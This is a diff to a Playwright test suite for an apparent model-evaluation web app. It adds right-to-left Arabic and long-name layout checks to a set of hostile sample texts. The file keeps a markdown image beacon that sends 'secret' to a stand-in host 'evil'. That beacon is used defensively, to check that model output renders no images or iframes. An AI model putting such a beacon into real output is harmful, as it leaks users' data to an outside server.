@@ -3,12 +3,13 @@
 Its pictures are for a person to look at: tests/screenshots, not in git.
 """
 
+import re
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
 import pytest
-from playwright.sync_api import Browser, BrowserContext, Page, expect
+from playwright.sync_api import Browser, BrowserContext, Locator, Page, expect
 from servers.acted import ActedServer
 from servers.contrast import faint, texts_of
 from servers.markup import SCRIPTS
@@ -17,7 +18,7 @@ from sqlalchemy import update
 
 import aistrale_lab as lab
 from aistrale_lab.domain.chat import GenerateConfig
-from aistrale_lab.domain.tasks import Dataset, Sample, Task
+from aistrale_lab.domain.tasks import Dataset, Sample
 from aistrale_lab.settings import Settings
 from aistrale_lab.store.reading import RUNS
 
@@ -25,6 +26,8 @@ FOLDER = Path(__file__).parents[1] / "screenshots"
 QUESTIONS = Path(__file__).parents[2] / "datasets" / "skills.jsonl"
 MODELS = ["embedded/small", "embedded/mini", "embedded/constant"]
 BEACON = "![](http://evil/?q=secret)"
+ARABIC = "ما هي العاصمة."
+LONG = "Supercalifragilistic" * 15
 PATIENCE = 120_000
 """Milliseconds: a busy machine computes a report in a minute."""
 
@@ -52,9 +55,10 @@ def team(
         questions = lab.load_dataset(QUESTIONS, limit=60)
         task = lab.Task(dataset=questions, scorers=["exact", "similarity"])
         bench.start(task, MODELS, name="Arithmetic").wait(100)
-        texts = (*SCRIPTS, BEACON)
-        samples = tuple(Sample(id=t, input=t, target=t, group=t) for t in texts)
-        hostile = Task(dataset=Dataset(name=SCRIPTS[0], samples=samples))
+        said = (*SCRIPTS, BEACON, ARABIC, LONG)
+        samples = tuple(Sample(id=t, input=t, target=t, group=t) for t in said)
+        texts = Dataset(name=SCRIPTS[0], samples=samples)
+        hostile = lab.Task(dataset=texts, scorers=["exact"])
         bench.start(hostile, ["embedded/echo", "embedded/constant"]).wait(60)
         for name in ("ann", "bob"):
             server.add_user(name)
@@ -167,6 +171,44 @@ def test_what_models_say_does_nothing_in_a_browser(
     assert page.locator("img, iframe").count() == 0
 
 
+def test_texts_run_the_way_of_their_script_and_long_names_leave_room(
+    team: TeamServer, visit: Any
+) -> None:
+    hostile = next(r for r in team.bench.runs() if r.model == "embedded/echo")
+    one = visit(800)
+    one.open(f"/experiments/{hostile.experiment_id}?whole=1")
+    page = one.sign_in("ann")
+
+    row = page.locator("tbody tr", has_text=LONG[:99]).first
+    assert right_of(row.get_by_role("cell").last) < 800
+    only = re.compile(rf"^\s*{ARABIC}\s*$")
+    for path in (f"/runs/{hostile.id}", f"/runs/{hostile.id}/sample?id={ARABIC}"):
+        one.open(path)
+        texts = page.locator("td, pre").filter(has_text=only, visible=True)
+        assert texts.count() > 1
+        for text in texts.all():
+            first, stop = text.evaluate(ENDS)
+            assert stop < first
+
+
+ENDS = """(node) => [0, node.textContent.trim().length - 1].map((at) => {
+  const range = document.createRange();
+  const text = node.firstChild;
+  const from = text.textContent.indexOf(node.textContent.trim()) + at;
+  range.setStart(text, from);
+  range.setEnd(text, from + 1);
+  return range.getBoundingClientRect().left;
+})"""
+"""Where the first and the last letter of an element begin, from the left."""
+
+
+def right_of(shown: Locator) -> float:
+    """Its right edge, from the page's left."""
+    box = shown.bounding_box()
+    assert box
+    return box["x"] + box["width"]
+
+
 def test_a_page_follows_its_runs_to_their_end(team: TeamServer, visit: Any) -> None:
     run = next(r for r in team.bench.runs() if r.name == "Arithmetic")
     set_run(team, run.id, status="running", planned=90)
@@ -195,7 +237,7 @@ def test_a_run_is_stopped_resumed_and_shared_by_whose_it_is(
     users = {user.name: user for user in team.app.state.accounts.list()}
     samples = tuple(Sample(id=f"q{n}", input=f"{n} + {n}") for n in range(3))
     config = GenerateConfig(max_tokens=9)
-    task = Task(dataset=Dataset(name="sums", samples=samples), config=config)
+    task = lab.Task(dataset=Dataset(name="sums", samples=samples), config=config)
     models = ["openai/right", "openai/stuck"]
     started = team.bench.start(task, models, owner=users["ann"].id)
     path = f"/experiments/{started.experiment_id}"
